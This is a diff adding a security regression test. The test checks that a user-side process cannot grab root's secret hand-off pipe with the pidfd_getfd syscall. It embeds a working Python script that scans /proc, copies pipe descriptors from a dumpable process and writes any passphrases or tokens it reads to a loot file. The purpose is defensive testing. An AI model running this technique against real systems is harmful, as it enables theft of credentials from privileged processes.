@@ -197,3 +197,63 @@ def test_ctrl_c_and_hang_up_to_root_reach_the_user_side(user: Account, vault: Pa
 
 def _shquote(text: str) -> str:
     return "'" + text.replace("'", "'\"'\"'") + "'"
+
+
+# -- the hand-off pipe ----------------------------------------------------------------------------
+PASSPHRASE = "pp-Redteam-5b3c1f"
+TOKEN = "ghp_rootsRedteamTokenMustNotLeak7"
+
+_FD_THIEF = r"""
+import ctypes, os, sys
+loot = sys.argv[1]
+libc = ctypes.CDLL(None, use_errno=True)
+me, base, seen = os.getuid(), os.getpid(), set()
+while True:
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) <= base or pid in seen:
+            continue
+        try:
+            if os.stat("/proc/" + pid).st_uid != me:
+                continue
+            with open("/proc/" + pid + "/cmdline", "rb") as f:
+                if b"user_entry" not in f.read():
+                    continue
+            seen.add(pid)
+            pidfd = os.pidfd_open(int(pid))
+            for fd in os.listdir("/proc/" + pid + "/fd"):
+                if int(fd) < 3 or not os.readlink("/proc/" + pid + "/fd/" + fd).startswith("pipe:"):
+                    continue
+                mine = libc.syscall(438, pidfd, int(fd), 0)  # pidfd_getfd: a copy of the process's fd
+                if mine < 0:
+                    continue
+                data = os.read(mine, 1 << 20)
+                os.close(mine)
+                with open(loot, "ab") as out:
+                    out.write(data + b"\n")
+        except OSError:
+            continue
+"""
+
+
+def test_handoff_pipe_cannot_be_taken_from_the_user_side_before_it_is_non_dumpable(user: Account,
+                                                                                   vault: Path) -> None:
+    """The pipe carrying root's secrets is inherited by a process of the user's that is dumpable
+    until its Python has started (prctl comes in user_entry): the user takes a copy of the pipe's
+    read end with pidfd_getfd (same uid, dumpable: allowed) and reads the hand-off, passphrase and
+    tokens, before the user side does."""
+    from helpers.attacker import onboard_as_root, spawn_as_user, stop
+
+    pw = root_file(vault / "pw", PASSPHRASE + "\n", mode=0o600)
+    loot = user.home / "loot"
+    thief = spawn_as_user(user, f"exec {PYTHON} -IS -c " + _shquote(_FD_THIEF) + f" {loot}")
+    try:
+        time.sleep(0.3)  # the thief is scanning /proc before root starts
+        runs = [onboard_as_root(user, "keygen", "-y", "--force", "--key-type", "ed25519", "--kdf-rounds", "1",
+                                "--passphrase-file", str(pw), env={"GITHUB_TOKEN": TOKEN}) for _ in range(3)]
+    finally:
+        stop(thief)
+    stolen = loot.read_bytes() if loot.exists() else b""
+    for secret in (PASSPHRASE, TOKEN):
+        assert secret.encode() not in stolen and base64.b64encode(secret.encode())[:12] not in stolen, (
+            f"the user read {secret!r} from root's hand-off pipe:\n{stolen[:400]!r}\n"
+            + "\n".join(r.output[-300:] for r in runs))
